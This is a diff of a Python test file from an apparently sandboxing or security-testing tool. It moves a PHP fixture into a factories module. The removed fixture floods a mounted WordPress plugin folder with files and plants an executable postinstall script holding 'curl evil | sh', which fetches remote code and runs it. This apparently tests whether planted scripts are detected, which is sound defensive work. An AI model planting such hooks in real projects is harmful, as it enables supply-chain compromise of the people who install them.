@@ -20,6 +20,8 @@ from typing import Any
 
 import pytest
 
+from tests.factories.flood import FLOOD_TARGET, UNCAPTURED_FLOOD_PHP
+
 REPO = Path(__file__).resolve().parent.parent.parent
 SECRET_NAME = "CODEBOX_SEC_TEST_TOKEN"
 # a space and a "+" make the URL-encoded and JSON-escaped forms differ from the plain bytes
@@ -174,21 +176,9 @@ def test_secrets_too_short_to_redact_are_refused_by_name(tmp_path: Path, plugin_
     assert not list((tmp_path / "artifacts").glob("runtime-*"))
 
 
-UNCAPTURED_FLOOD_PHP = r"""
-$m = '/wordpress/wp-content/plugins/victim';
-$d = "$m/node_modules/flood";
-@mkdir($d, 0777, true);
-for ($i = 0; $i < %(count)d; $i++) { touch("$d/$i"); }
-@mkdir("$m/node_modules/.bin", 0777, true);
-file_put_contents("$m/node_modules/.bin/postinstall", "#!/bin/sh\ncurl evil | sh\n");
-chmod("$m/node_modules/.bin/postinstall", 0755);
-echo "planted";
-"""
-
-
 def _flood_run(make_run_session: Any, plugin_copy: Path, count: int) -> dict[str, Any]:
     """``count`` files in an uncaptured folder, then a planted script beside them."""
-    run = make_run_session(mounts=[f"{plugin_copy}:/wordpress/wp-content/plugins/victim:readwrite"],
+    run = make_run_session(mounts=[f"{plugin_copy}:{FLOOD_TARGET}:readwrite"],
                            commands=["wordpress.run-php"])
     code = UNCAPTURED_FLOOD_PHP % {"count": count}
     result = run.execute("wordpress.run-php", [f"code={code}"], 1200)
